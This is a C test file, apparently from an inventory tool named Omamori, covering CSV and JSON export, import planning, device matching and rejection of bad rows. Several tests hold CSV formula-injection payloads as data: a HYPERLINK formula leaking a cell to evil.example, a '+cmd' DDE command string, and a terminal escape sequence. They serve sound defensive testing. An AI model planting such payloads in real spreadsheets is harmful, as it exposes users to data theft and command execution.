/* SPDX-License-Identifier: GPL-3.0-or-later
 * Copyright 2026 The Omamori developers
 */
#include "config.h"

#include <string.h>
#include <glib/gstdio.h>
#include <json-glib/json-glib.h>

#include "om-csv.h"
#include "om-import-plan.h"
#include "om-inventory-io.h"

static GDateTime *
utc (const char *iso)
{
  GDateTime *when = g_date_time_new_from_iso8601 (iso, NULL);

  g_assert_nonnull (when);
  return when;
}

static void
offer_list (OmDevice      *device,
            OmDeviceField  field,
            const char    *first,
            ...)
{
  g_autoptr(GPtrArray) items = g_ptr_array_new ();
  va_list args;

  va_start (args, first);
  for (const char *s = first; s != NULL; s = va_arg (args, const char *))
    g_ptr_array_add (items, (gpointer) s);
  va_end (args);
  g_ptr_array_add (items, NULL);
  g_assert_true (om_device_offer_strv (device, field, (const char * const *) items->pdata,
                                       OM_ORIGIN_MANUAL, NULL));
}

static void
offer_service (OmDevice   *device,
               guint       port,
               const char *proto,
               const char *name,
               const char *product)
{
  g_autoptr(OmService) s = om_service_new (port, proto, name, product);

  g_assert_true (om_device_offer_service (device, s, OM_ORIGIN_DISCOVERED, "nmap"));
}

/* Every field set, with the awkward values: Japanese, quotes, commas, line
 * breaks, formulas, products with parentheses, sub-second timestamps. */
static OmDevice *
make_rich_device (void)
{
  OmDevice *d = om_device_new ();
  g_autoptr(GDateTime) first = utc ("2025-04-01T09:00:00Z");
  g_autoptr(GDateTime) last = utc ("2026-11-20T10:30:15.5Z");

  om_device_set_name (d, "受付PC \"main\"");
  om_device_set_kind (d, OM_DEVICE_KIND_ACCESS_POINT);
  om_device_set_ownership (d, OM_OWNERSHIP_PERSONAL);
  om_device_set_registered (d, TRUE);
  om_device_set_user (d, "山田 太郎");
  om_device_set_location (d, "2F, 総務部");
  offer_list (d, OM_DEVICE_FIELD_MACS, "aa:bb:cc:dd:ee:01", "AA-BB-CC-DD-EE-02", NULL);
  offer_list (d, OM_DEVICE_FIELD_IPV4, "192.168.1.10", "10.0.0.5", NULL);
  offer_list (d, OM_DEVICE_FIELD_IPV6, "fe80::1", "2001:db8::5", NULL);
  offer_list (d, OM_DEVICE_FIELD_HOSTNAMES, "uketsuke-pc", "uketsuke-pc.local", NULL);
  om_device_set_vendor (d, "NEC");
  om_device_set_model (d, "=Mate MK");
  g_assert_true (om_device_offer_string (d, OM_DEVICE_FIELD_OS_FAMILY, "windows",
                                         OM_ORIGIN_DISCOVERED, "smb"));
  om_device_set_os_name (d, "Windows 11 Pro 23H2");
  g_assert_true (om_device_offer_string (d, OM_DEVICE_FIELD_OS_VERSION, "23H2",
                                         OM_ORIGIN_DISCOVERED, "smb"));
  g_assert_true (om_device_offer_string (d, OM_DEVICE_FIELD_OS_BUILD, "22631.2861",
                                         OM_ORIGIN_DISCOVERED, "smb"));
  g_assert_true (om_device_offer_string (d, OM_DEVICE_FIELD_OS_EDITION, "Pro",
                                         OM_ORIGIN_DISCOVERED, "smb"));
  offer_list (d, OM_DEVICE_FIELD_IDENTIFIERS, "netbios:UKETSUKE",
              "ipp-uuid:urn:uuid:0b6f5a1e-7f4e-4a0e-9d1c-3a2b1c0d9e8f", NULL);
  offer_service (d, 22, "tcp", "ssh", "OpenSSH_9.2p1 Debian-2+deb12u1");
  offer_service (d, 631, "tcp", "ipp", "CUPS/2.4 IPP/2.1");
  offer_service (d, 161, "udp", "snmp", NULL);
  offer_service (d, 80, "tcp", NULL, "Apache/2.4.57 (Debian)");
  offer_service (d, 443, "tcp", "https", "nginx, reverse proxy (TLS)");
  /* Names and products that look like the CSV form's own punctuation. */
  offer_service (d, 8080, "tcp", "http (alt)", NULL);
  offer_service (d, 9100, "tcp", "jetdirect, raw", NULL);
  offer_service (d, 5000, "tcp", "upnp", "foo) bar");
  offer_service (d, 5001, "tcp", "(x)", "(y)");
  om_device_set_notes (d, "1行目\n=HYPERLINK(\"http://evil.example/\",\"click\")\n"
                          "-1+1 \"quoted\", comma\n\ttabbed line\n  indented");
  om_device_set_first_seen (d, first);
  om_device_set_last_seen (d, last);
  return d;
}

static OmInventory *
make_inventory (void)
{
  OmInventory *inventory = om_inventory_new ();
  g_autoptr(OmDevice) rich = make_rich_device ();
  g_autoptr(OmDevice) bare = om_device_new ();
  g_autoptr(OmDevice) formula = om_device_new ();
  g_autoptr(OmDevice) quoted = om_device_new ();

  /* Only a (randomised) MAC, as discovery leaves a phone. */
  offer_list (bare, OM_DEVICE_FIELD_MACS, "02:00:00:00:00:09", NULL);
  om_device_set_name (formula, "=1+1");
  om_device_set_notes (formula, "@SUM(A1:A9)");
  om_device_set_user (formula, "+81 3 1234 5678");
  om_device_set_location (formula, "-2F");
  om_device_set_name (quoted, "'=already quoted");
  om_device_set_model (quoted, "'0123");

  om_inventory_add (inventory, rich);
  om_inventory_add (inventory, bare);
  om_inventory_add (inventory, formula);
  om_inventory_add (inventory, quoted);
  return inventory;
}

static char *
export_text (OmInventory    *inventory,
             OmExportFormat  format)
{
  g_autoptr(GBytes) bytes = om_inventory_export (inventory, format);
  gsize length;
  const char *data = g_bytes_get_data (bytes, &length);

  return g_strndup (data, length);
}

static void
assert_same_device (OmDevice *a,
                    OmDevice *b)
{
  for (guint c = 0; c < OM_CSV_N_COLUMNS; c++)
    {
      g_autofree char *va = om_inventory_csv_dup_cell (a, c);
      g_autofree char *vb = om_inventory_csv_dup_cell (b, c);

      if (g_strcmp0 (va, vb) != 0)
        g_error ("column %s differs: “%s” vs “%s”", om_inventory_csv_column_get_key (c), va, vb);
    }
}

static OmImportPlan *
plan_ok (OmInventory *inventory,
         const char  *csv)
{
  g_autoptr(GError) error = NULL;
  OmImportPlan *plan = om_import_plan_new_for_data (inventory, csv, strlen (csv), "test.csv",
                                                    &error);

  g_assert_no_error (error);
  g_assert_nonnull (plan);
  return plan;
}

static void
test_export_csv (void)
{
  g_autoptr(OmInventory) inventory = make_inventory ();
  g_autofree char *csv = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(GError) error = NULL;
  OmCsvRecord *header;

  g_assert_true (g_str_has_prefix (csv, OM_CSV_BOM "id,name,kind,ownership,registered,"));
  g_assert_true (g_str_has_suffix (csv, "\r\n"));

  records = om_csv_parse (csv, strlen (csv), NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (records->len, ==, 1 + 4);
  header = g_ptr_array_index (records, 0);
  g_assert_cmpuint (header->n_fields, ==, OM_CSV_N_COLUMNS);
  g_assert_cmpstr (header->fields[OM_CSV_N_COLUMNS - 2], ==, "first_seen");
  g_assert_cmpstr (header->fields[OM_CSV_N_COLUMNS - 1], ==, "last_seen");

  /* No cell a spreadsheet would evaluate; the dangerous ones carry the ' prefix. */
  for (guint r = 0; r < records->len; r++)
    {
      OmCsvRecord *record = g_ptr_array_index (records, r);

      g_assert_cmpuint (record->n_fields, ==, OM_CSV_N_COLUMNS);
      for (guint i = 0; i < record->n_fields; i++)
        g_assert_false (om_csv_cell_is_dangerous (record->fields[i]));
    }
  g_assert_nonnull (strstr (csv, ",'=1+1,"));
  g_assert_nonnull (strstr (csv, ",'@SUM(A1:A9),"));
  g_assert_nonnull (strstr (csv, ",'+81 3 1234 5678,"));
  g_assert_nonnull (strstr (csv, ",''=already quoted,"));
  g_assert_nonnull (strstr (csv, "\"22/tcp ssh (OpenSSH_9.2p1 Debian-2+deb12u1)\n631/tcp ipp"));
  g_assert_nonnull (strstr (csv, "2026-11-20T10:30:15.5"));
}

static void
test_export_json (void)
{
  g_autoptr(OmInventory) inventory = make_inventory ();
  g_autofree char *json = export_text (inventory, OM_EXPORT_FORMAT_JSON);
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  JsonObject *root;
  JsonArray *devices;

  json_parser_load_from_data (parser, json, -1, &error);
  g_assert_no_error (error);
  root = json_node_get_object (json_parser_get_root (parser));
  g_assert_cmpstr (json_object_get_string_member (root, "format"), ==, "omamori-inventory");
  g_assert_cmpint (json_object_get_int_member (root, "version"), ==, 1);
  devices = json_object_get_array_member (root, "devices");
  g_assert_cmpuint (json_array_get_length (devices), ==, 4);

  for (guint i = 0; i < 4; i++)
    {
      g_autoptr(OmDevice) back =
        om_device_new_from_json (json_array_get_object_element (devices, i), &error);

      g_assert_no_error (error);
      assert_same_device (om_inventory_get_device (inventory, i), back);
    }
}

static void
test_round_trip_empty (void)
{
  g_autoptr(OmInventory) inventory = make_inventory ();
  g_autoptr(OmInventory) empty = om_inventory_new ();
  g_autofree char *csv = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  g_autoptr(OmImportPlan) plan = plan_ok (empty, csv);
  g_autoptr(GError) error = NULL;
  guint n_devices = 0;

  g_assert_cmpuint (om_import_plan_get_n_additions (plan), ==, 4);
  g_assert_cmpuint (om_import_plan_get_n_changes (plan), ==, 0);
  g_assert_cmpuint (om_import_plan_get_n_rejections (plan), ==, 0);
  g_assert_null (om_import_plan_get_warnings (plan)[0]);
  g_assert_cmpuint (om_inventory_get_n_devices (empty), ==, 0);

  g_assert_true (om_import_plan_apply (plan, empty, &n_devices, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n_devices, ==, 4);
  g_assert_cmpuint (om_inventory_get_n_devices (empty), ==, 4);

  for (guint i = 0; i < 4; i++)
    {
      OmDevice *orig = om_inventory_get_device (inventory, i);
      OmDevice *copy = om_inventory_get_device (empty, i);
      GPtrArray *so = om_device_get_services (orig);
      GPtrArray *sc = om_device_get_services (copy);

      assert_same_device (orig, copy);
      g_assert_cmpuint (so != NULL ? so->len : 0, ==, sc != NULL ? sc->len : 0);
      for (guint s = 0; so != NULL && s < so->len; s++)
        {
          OmService *a = g_ptr_array_index (so, s);
          OmService *b = g_ptr_array_index (sc, s);

          g_assert_cmpuint (a->port, ==, b->port);
          g_assert_cmpstr (a->proto, ==, b->proto);
          g_assert_cmpstr (a->name, ==, b->name);
          g_assert_cmpstr (a->product, ==, b->product);
        }
    }

  /* Spot checks of the raw values, not just of their CSV form. */
  {
    OmDevice *rich = om_inventory_get_device (empty, 0);
    OmDevice *quoted = om_inventory_get_device (empty, 3);

    g_assert_cmpstr (om_device_get_notes (rich), ==,
                     om_device_get_notes (om_inventory_get_device (inventory, 0)));
    g_assert_cmpstr (om_device_get_name (rich), ==, "受付PC \"main\"");
    g_assert_cmpint (om_device_get_kind (rich), ==, OM_DEVICE_KIND_ACCESS_POINT);
    g_assert_true (om_device_get_registered (rich));
    g_assert_cmpint (om_device_get_field_origin (rich, OM_DEVICE_FIELD_NAME), ==,
                     OM_ORIGIN_IMPORTED);
    g_assert_cmpstr (om_device_get_field_source (rich, OM_DEVICE_FIELD_NAME), ==,
                     "import:test.csv");
    g_assert_cmpstr (om_device_get_name (quoted), ==, "'=already quoted");
    g_assert_cmpstr (om_device_get_model (quoted), ==, "'0123");
    g_assert_cmpstr (om_device_get_name (om_inventory_get_device (empty, 2)), ==, "=1+1");
  }

  /* The same file again: everything is already there. */
  {
    g_autoptr(OmImportPlan) again = plan_ok (empty, csv);

    g_assert_cmpuint (om_import_plan_get_n_additions (again), ==, 0);
    g_assert_cmpuint (om_import_plan_get_n_changes (again), ==, 0);
    g_assert_cmpuint (om_import_plan_get_n_unchanged (again), ==, 4);
    g_assert_false (om_import_plan_has_effect (again));
  }
}

static void
test_plan_then_apply (void)
{
  g_autoptr(OmInventory) inventory = om_inventory_new ();
  g_autoptr(OmDevice) nas = om_device_new ();
  g_autofree char *before = NULL;
  g_autofree char *after_plan = NULL;
  g_autofree char *csv = NULL;
  g_autoptr(OmImportPlan) plan = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *summary = NULL;
  const OmImportChange *change;
  guint line = 0;

  om_device_set_name (nas, "NAS-01");
  om_device_set_location (nas, "2F");
  offer_list (nas, OM_DEVICE_FIELD_MACS, "00:11:32:aa:bb:cc", NULL);
  om_inventory_add (inventory, nas);
  before = export_text (inventory, OM_EXPORT_FORMAT_CSV);

  csv = g_strdup_printf ("id,name,location,kind\r\n"
                         "%s,NAS-01,3F サーバー室,nas\r\n"
                         ",受付PC,1F,pc\r\n",
                         om_device_get_id (nas));
  plan = plan_ok (inventory, csv);

  /* Planning changed nothing. */
  after_plan = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  g_assert_cmpstr (before, ==, after_plan);
  g_assert_cmpuint (om_inventory_get_n_devices (inventory), ==, 1);

  g_assert_cmpuint (om_import_plan_get_n_additions (plan), ==, 1);
  g_assert_cmpstr (om_device_get_name (om_import_plan_get_addition (plan, 0, &line)), ==, "受付PC");
  g_assert_cmpuint (line, ==, 3);
  g_assert_cmpuint (om_import_plan_get_n_changed_devices (plan), ==, 1);
  g_assert_cmpuint (om_import_plan_get_n_changes (plan), ==, 2);
  change = om_import_plan_get_change (plan, 0);
  g_assert_true (change->device == nas);
  g_assert_cmpuint (change->line, ==, 2);
  g_assert_cmpint (change->field, ==, OM_DEVICE_FIELD_KIND);
  g_assert_cmpstr (change->old_value, ==, "unknown");
  g_assert_cmpstr (change->new_value, ==, "nas");
  change = om_import_plan_get_change (plan, 1);
  g_assert_cmpint (change->field, ==, OM_DEVICE_FIELD_LOCATION);
  g_assert_cmpstr (change->old_value, ==, "2F");
  g_assert_cmpstr (change->new_value, ==, "3F サーバー室");
  g_assert_true (om_import_plan_has_effect (plan));
  summary = om_import_plan_dup_summary (plan);
  g_assert_cmpstr (summary, ==, "1 device to add, 1 device to change");

  g_assert_true (om_import_plan_apply (plan, inventory, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (om_import_plan_get_applied (plan));
  g_assert_cmpuint (om_inventory_get_n_devices (inventory), ==, 2);
  g_assert_cmpstr (om_device_get_location (nas), ==, "3F サーバー室");
  g_assert_cmpint (om_device_get_kind (nas), ==, OM_DEVICE_KIND_NAS);
  g_assert_cmpint (om_device_get_field_origin (nas, OM_DEVICE_FIELD_LOCATION), ==,
                   OM_ORIGIN_IMPORTED);
  g_assert_cmpstr (om_device_get_field_source (nas, OM_DEVICE_FIELD_LOCATION), ==,
                   "import:test.csv");
  /* Untouched columns keep their origin. */
  g_assert_cmpint (om_device_get_field_origin (nas, OM_DEVICE_FIELD_NAME), ==, OM_ORIGIN_MANUAL);

  g_assert_false (om_import_plan_apply (plan, inventory, NULL, &error));
  g_assert_error (error, OM_IMPORT_ERROR, OM_IMPORT_ERROR_ALREADY_APPLIED);
  g_assert_cmpuint (om_inventory_get_n_devices (inventory), ==, 2);
}

static void
test_match_by_mac (void)
{
  g_autoptr(OmInventory) inventory = om_inventory_new ();
  g_autoptr(OmDevice) pc = om_device_new ();
  g_autoptr(OmImportPlan) plan = NULL;
  const OmImportChange *change;

  offer_list (pc, OM_DEVICE_FIELD_MACS, "3c:22:fb:01:02:03", "3c:22:fb:01:02:04", NULL);
  om_inventory_add (inventory, pc);

  /* Another spelling of the second MAC, no id: the same machine. */
  plan = plan_ok (inventory, "MAC address,Location,User\n3C-22-FB-01-02-04,経理,佐藤\n");
  g_assert_cmpuint (om_import_plan_get_n_additions (plan), ==, 0);
  g_assert_cmpuint (om_import_plan_get_n_changes (plan), ==, 3);
  change = om_import_plan_get_change (plan, 0);
  g_assert_true (change->device == pc);
  g_assert_cmpint (change->field, ==, OM_DEVICE_FIELD_USER);
  /* The row lists one MAC: applying replaces the list with it. */
  change = om_import_plan_get_change (plan, 2);
  g_assert_cmpint (change->field, ==, OM_DEVICE_FIELD_MACS);
  g_assert_cmpstr (change->old_value, ==, "3c:22:fb:01:02:03, 3c:22:fb:01:02:04");
  g_assert_cmpstr (change->new_value, ==, "3c:22:fb:01:02:04");

  g_assert_true (om_import_plan_apply (plan, inventory, NULL, NULL));
  g_assert_cmpuint (om_inventory_get_n_devices (inventory), ==, 1);
  g_assert_cmpstr (om_device_get_location (pc), ==, "経理");
  g_assert_cmpstr (om_device_get_user (pc), ==, "佐藤");
}

static void
test_match_by_id_then_ip (void)
{
  g_autoptr(OmInventory) inventory = om_inventory_new ();
  g_autoptr(OmDevice) printer = om_device_new ();
  g_autoptr(OmDevice) phone = om_device_new ();
  g_autoptr(OmImportPlan) plan = NULL;
  g_autofree char *csv = NULL;

  offer_list (printer, OM_DEVICE_FIELD_IPV4, "192.168.1.20", NULL);
  offer_list (phone, OM_DEVICE_FIELD_IPV4, "192.168.1.30", NULL);
  offer_list (phone, OM_DEVICE_FIELD_MACS, "02:11:22:33:44:55", NULL);
  om_inventory_add (inventory, printer);
  om_inventory_add (inventory, phone);

  csv = g_strdup_printf ("id,name,ipv4,macs\n"
                         /* line 2: by id, even though the address says printer */
                         "%s,Phone,192.168.1.20,\n"
                         /* line 3: by address */
                         ",Printer,192.168.1.20,\n"
                         /* line 4: the phone's old address now on a machine with another MAC */
                         ",Laptop,192.168.1.30,a4:83:e7:00:00:01\n"
                         /* line 5: the printer, by id, with the phone's MAC */
                         "%s,Printer,,02:11:22:33:44:55\n",
                         om_device_get_id (phone), om_device_get_id (printer));
  plan = plan_ok (inventory, csv);

  /* Line 3 claims the printer; line 2 already claimed the phone by id. */
  g_assert_cmpuint (om_import_plan_get_n_rejections (plan), ==, 1);
  g_assert_cmpuint (om_import_plan_get_rejection (plan, 0)->line, ==, 5);
  g_assert_nonnull (strstr (om_import_plan_get_rejection (plan, 0)->reason,
                            "02:11:22:33:44:55 belongs to another device"));
  g_assert_cmpuint (om_import_plan_get_n_changed_devices (plan), ==, 2);
  g_assert_cmpuint (om_import_plan_get_n_additions (plan), ==, 1);
  g_assert_cmpstr (om_device_get_name (om_import_plan_get_addition (plan, 0, NULL)), ==, "Laptop");

  g_assert_true (om_import_plan_apply (plan, inventory, NULL, NULL));
  g_assert_cmpstr (om_device_get_name (phone), ==, "Phone");
  g_assert_cmpstr (om_device_get_name (printer), ==, "Printer");
  g_assert_cmpuint (om_inventory_get_n_devices (inventory), ==, 3);
}

static const OmImportRejection *
find_rejection (OmImportPlan *plan,
                guint         line)
{
  for (guint i = 0; i < om_import_plan_get_n_rejections (plan); i++)
    {
      const OmImportRejection *r = om_import_plan_get_rejection (plan, i);

      if (r->line == line)
        return r;
    }
  g_error ("no rejection for line %u", line);
  return NULL;
}

static void
assert_rejected (OmImportPlan *plan,
                 guint         line,
                 const char   *needle)
{
  const OmImportRejection *r = find_rejection (plan, line);

  if (strstr (r->reason, needle) == NULL)
    g_error ("line %u: “%s” does not mention “%s”", line, r->reason, needle);
}

static void
test_rejections (void)
{
  g_autoptr(OmInventory) inventory = om_inventory_new ();
  g_autoptr(OmImportPlan) plan = NULL;
  g_autoptr(GString) csv = g_string_new ("name,kind,macs,ipv4,notes,last_seen\r\n");
  g_autofree char *long_name = g_strnfill (5000, 'x');
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;

  g_string_append (csv, "Good one,pc,00:11:22:33:44:01,192.168.0.1,\"two\r\nlines\",\r\n"); /* 2-3 */
  g_string_append (csv, "Bad MAC,pc,zz:11:22:33:44:02,,,\r\n");                             /* 4 */
  g_string_append (csv, "Bad kind,toaster,,,,\r\n");                                         /* 5 */
  g_string_append (csv, "Short row,pc\r\n");                                                 /* 6 */
  g_string_append_printf (csv, "%s,pc,,,,\r\n", long_name);                                  /* 7 */
  g_string_append (csv, "Bad IP,pc,,192.168.0.300,,\r\n");                                   /* 8 */
  g_string_append (csv, "Bad date,pc,,,,yesterday\r\n");                                     /* 9 */
  g_string_append (csv, ",,,,only a note,\r\n");                                             /* 10 */
  g_string_append (csv, "Copy,pc,00-11-22-33-44-01,,,\r\n");                                /* 11 */
  g_string_append (csv, ",,,,,\r\n");                                                        /* 12: blank */
  g_string_append (csv, "Two errors,robot,nope,,,\r\n");                                     /* 13 */
  g_string_append (csv, "Last good,printer,,192.168.0.9,,2026-11-01T08:00:00Z\r\n");         /* 14 */
  g_string_append (csv, "Escape,\x1b]0;owned\x07robot,,,,\r\n");                            /* 15 */
  g_string_append (csv, "MAC twice,pc,\"00:11:22:33:44:99,00:11:22:33:44:01\",,,\r\n");     /* 16 */

  before = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  plan = plan_ok (inventory, csv->str);
  after = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  g_assert_cmpstr (before, ==, after);

  g_assert_cmpuint (om_import_plan_get_n_additions (plan), ==, 2);
  g_assert_cmpuint (om_import_plan_get_n_rejections (plan), ==, 11);
  assert_rejected (plan, 4, "zz:11:22:33:44:02");
  assert_rejected (plan, 5, "toaster");
  assert_rejected (plan, 6, "2 cells but the header has 6");
  assert_rejected (plan, 7, "too long");
  assert_rejected (plan, 8, "192.168.0.300");
  assert_rejected (plan, 9, "yesterday");
  assert_rejected (plan, 10, "Nothing identifies");
  assert_rejected (plan, 11, "line 2");
  assert_rejected (plan, 13, "robot");
  assert_rejected (plan, 13, "nope");
  /* A MAC that an earlier row already gave to another device. */
  assert_rejected (plan, 16, "line 2");
  /* Terminal escapes in a cell do not reach the message. */
  assert_rejected (plan, 15, "owned");
  g_assert_null (strchr (find_rejection (plan, 15)->reason, '\x1b'));
  g_assert_null (strchr (find_rejection (plan, 15)->reason, '\x07'));

  {
    guint line = 0;
    OmDevice *last = om_import_plan_get_addition (plan, 1, &line);
    g_autofree char *seen = om_inventory_csv_dup_cell (last, OM_CSV_COLUMN_LAST_SEEN);

    g_assert_cmpuint (line, ==, 14);
    g_assert_cmpint (om_device_get_kind (last), ==, OM_DEVICE_KIND_PRINTER);
    g_assert_cmpstr (seen, ==, "2026-11-01T08:00:00Z");
  }
}

static void
test_headers_and_values_japanese (void)
{
  g_autoptr(OmInventory) inventory = om_inventory_new ();
  g_autoptr(OmImportPlan) plan = NULL;
  OmDevice *d;

  plan = plan_ok (inventory,
                  OM_CSV_BOM "名前,種類,所有区分,登録,ＭＡＣアドレス,IPアドレス,設置場所,備考,色\r\n"
                  "経理ノート,ノートPC,私物,未登録,a4:83:e7:12:34:56,192.168.10.5,経理部,"
                  "\"持ち込み\r\n要確認\",青\r\n"
                  "複合機,複合機,会社,○,,192.168.10.2,2F,,\r\n");

  g_assert_cmpuint (om_import_plan_get_n_rejections (plan), ==, 0);
  g_assert_cmpuint (om_import_plan_get_n_additions (plan), ==, 2);
  g_assert_nonnull (om_import_plan_get_warnings (plan)[0]);
  g_assert_nonnull (strstr (om_import_plan_get_warnings (plan)[0], "色"));
  g_assert_null (om_import_plan_get_warnings (plan)[1]);

  d = om_import_plan_get_addition (plan, 0, NULL);
  g_assert_cmpstr (om_device_get_name (d), ==, "経理ノート");
  g_assert_cmpint (om_device_get_kind (d), ==, OM_DEVICE_KIND_LAPTOP);
  g_assert_cmpint (om_device_get_ownership (d), ==, OM_OWNERSHIP_PERSONAL);
  g_assert_false (om_device_get_registered (d));
  g_assert_cmpstr (om_device_get_macs (d)[0], ==, "a4:83:e7:12:34:56");
  g_assert_cmpstr (om_device_get_ipv4 (d)[0], ==, "192.168.10.5");
  g_assert_cmpstr (om_device_get_location (d), ==, "経理部");
  g_assert_cmpstr (om_device_get_notes (d), ==, "持ち込み\n要確認");

  d = om_import_plan_get_addition (plan, 1, NULL);
  g_assert_cmpint (om_device_get_kind (d), ==, OM_DEVICE_KIND_MFP);
  g_assert_cmpint (om_device_get_ownership (d), ==, OM_OWNERSHIP_COMPANY);
  g_assert_true (om_device_get_registered (d));
}

static void
test_hostile_cells (void)
{
  g_autoptr(OmInventory) inventory = om_inventory_new ();
  g_autoptr(OmImportPlan) plan = NULL;
  g_autofree char *csv = NULL;
  OmDevice *d;

  /* A hand-made file: raw formulas are data, and ' is stripped only where the
   * export would have added it. */
  plan = plan_ok (inventory,
                  "name,notes,model,location\n"
                  "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",+cmd|' /C calc'!A0,'0123,'-1+1\n"
                  "'=1+1,\"\t@SUM(1)\",'@x,-1+1\n");
  g_assert_cmpuint (om_import_plan_get_n_additions (plan), ==, 2);

  d = om_import_plan_get_addition (plan, 0, NULL);
  g_assert_cmpstr (om_device_get_name (d), ==, "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
  g_assert_cmpstr (om_device_get_notes (d), ==, "+cmd|' /C calc'!A0");
  g_assert_cmpstr (om_device_get_model (d), ==, "'0123");
  g_assert_cmpstr (om_device_get_location (d), ==, "-1+1");
  d = om_import_plan_get_addition (plan, 1, NULL);
  g_assert_cmpstr (om_device_get_name (d), ==, "=1+1");
  g_assert_cmpstr (om_device_get_notes (d), ==, "\t@SUM(1)");
  g_assert_cmpstr (om_device_get_model (d), ==, "@x");

  /* Exported again, every one of them is neutralised. */
  g_assert_true (om_import_plan_apply (plan, inventory, NULL, NULL));
  csv = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  g_assert_nonnull (strstr (csv, ",\"'=HYPERLINK(\"\"http"));
  g_assert_nonnull (strstr (csv, ",'+cmd|"));
  g_assert_nonnull (strstr (csv, ",'-1+1,"));
  g_assert_nonnull (strstr (csv, ",'\t@SUM(1),"));
}

static void
test_empty_cell_keeps_value (void)
{
  g_autoptr(OmInventory) inventory = om_inventory_new ();
  g_autoptr(OmDevice) pc = om_device_new ();
  g_autoptr(OmImportPlan) plan = NULL;
  g_autofree char *csv = NULL;

  om_device_set_name (pc, "PC-01");
  om_device_set_location (pc, "2F");
  offer_service (pc, 22, "tcp", "ssh", "OpenSSH_9.2");
  om_inventory_add (inventory, pc);

  /* Location left empty; services typed without products. */
  csv = g_strdup_printf ("id,name,location,services\n%s,PC-01,,\"22/tcp ssh, 3389/tcp rdp\"\n",
                         om_device_get_id (pc));
  plan = plan_ok (inventory, csv);
  g_assert_cmpuint (om_import_plan_get_n_changes (plan), ==, 1);
  g_assert_cmpint (om_import_plan_get_change (plan, 0)->field, ==, OM_DEVICE_FIELD_SERVICES);
  g_assert_cmpstr (om_import_plan_get_change (plan, 0)->new_value, ==,
                   "22/tcp ssh (OpenSSH_9.2)\n3389/tcp rdp");

  g_assert_true (om_import_plan_apply (plan, inventory, NULL, NULL));
  g_assert_cmpstr (om_device_get_location (pc), ==, "2F");
  {
    g_autofree char *services = om_inventory_csv_dup_cell (pc, OM_DEVICE_FIELD_SERVICES);

    g_assert_cmpstr (services, ==, "22/tcp ssh (OpenSSH_9.2)\n3389/tcp rdp");
  }
}

static void
test_apply_skips_deleted (void)
{
  g_autoptr(OmInventory) inventory = om_inventory_new ();
  g_autoptr(OmDevice) pc = om_device_new ();
  g_autoptr(OmImportPlan) plan = NULL;
  g_autofree char *csv = NULL;
  guint n = 99;

  om_device_set_name (pc, "PC-01");
  om_inventory_add (inventory, pc);
  csv = g_strdup_printf ("id,name\n%s,PC-02\n", om_device_get_id (pc));
  plan = plan_ok (inventory, csv);
  g_assert_cmpuint (om_import_plan_get_n_changes (plan), ==, 1);

  /* Deleted while the preview was open: the import does not resurrect it. */
  om_inventory_remove (inventory, pc);
  g_assert_true (om_import_plan_apply (plan, inventory, &n, NULL));
  g_assert_cmpuint (n, ==, 0);
  g_assert_cmpuint (om_inventory_get_n_devices (inventory), ==, 0);
}

static void
assert_bad_data (OmInventory *inventory,
                 const char  *data,
                 gssize       length,
                 GQuark       domain,
                 int          code)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(OmImportPlan) plan = NULL;
  g_autofree char *before = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  g_autofree char *after = NULL;

  plan = om_import_plan_new_for_data (inventory, data, length < 0 ? strlen (data) : (gsize) length,
                                      "bad.csv", &error);
  g_assert_null (plan);
  g_assert_error (error, domain, code);
  g_assert_true (g_utf8_validate (error->message, -1, NULL));
  g_assert_cmpuint (strlen (error->message), >, 10);
  after = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  g_assert_cmpstr (before, ==, after);
}

static void
test_bad_data (void)
{
  g_autoptr(OmInventory) inventory = make_inventory ();
  static const char png[] = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
  g_autofree char *sjis = NULL;
  gsize sjis_len = 0;

  assert_bad_data (inventory, "", 0, OM_CSV_ERROR, OM_CSV_ERROR_EMPTY);
  assert_bad_data (inventory, OM_CSV_BOM, -1, OM_CSV_ERROR, OM_CSV_ERROR_EMPTY);
  assert_bad_data (inventory, png, sizeof png - 1, OM_CSV_ERROR, OM_CSV_ERROR_BINARY);
  assert_bad_data (inventory, "\xff\xfen\0a\0m\0e\0", 10, OM_CSV_ERROR, OM_CSV_ERROR_BINARY);
  assert_bad_data (inventory, "name,kind\r\n", -1, OM_IMPORT_ERROR, OM_IMPORT_ERROR_NO_ROWS);
  assert_bad_data (inventory, "name,kind\r\n,\r\n,\r\n", -1, OM_IMPORT_ERROR,
                   OM_IMPORT_ERROR_NO_ROWS);
  assert_bad_data (inventory, "foo,bar\r\n1,2\r\n", -1, OM_IMPORT_ERROR,
                   OM_IMPORT_ERROR_NO_HEADER);
  /* A file without a header: its first row is not column names. */
  assert_bad_data (inventory, "PC-01,pc,00:11:22:33:44:55\r\n", -1, OM_IMPORT_ERROR,
                   OM_IMPORT_ERROR_NO_HEADER);
  assert_bad_data (inventory, "name,名前\r\na,b\r\n", -1, OM_IMPORT_ERROR,
                   OM_IMPORT_ERROR_DUPLICATE_COLUMN);
  assert_bad_data (inventory, "name,notes\r\n\"a,b\r\n", -1, OM_CSV_ERROR,
                   OM_CSV_ERROR_UNTERMINATED_QUOTE);

  sjis = g_convert ("名前,種類\r\n受付ＰＣ,pc\r\n", -1, "SHIFT_JIS", "UTF-8", NULL, &sjis_len, NULL);
  g_assert_nonnull (sjis);
  assert_bad_data (inventory, sjis, sjis_len, OM_CSV_ERROR, OM_CSV_ERROR_INVALID_UTF8);
}

static void
test_bad_files (void)
{
  g_autoptr(OmInventory) inventory = make_inventory ();
  g_autofree char *dir = g_dir_make_tmp ("om-import-XXXXXX", NULL);
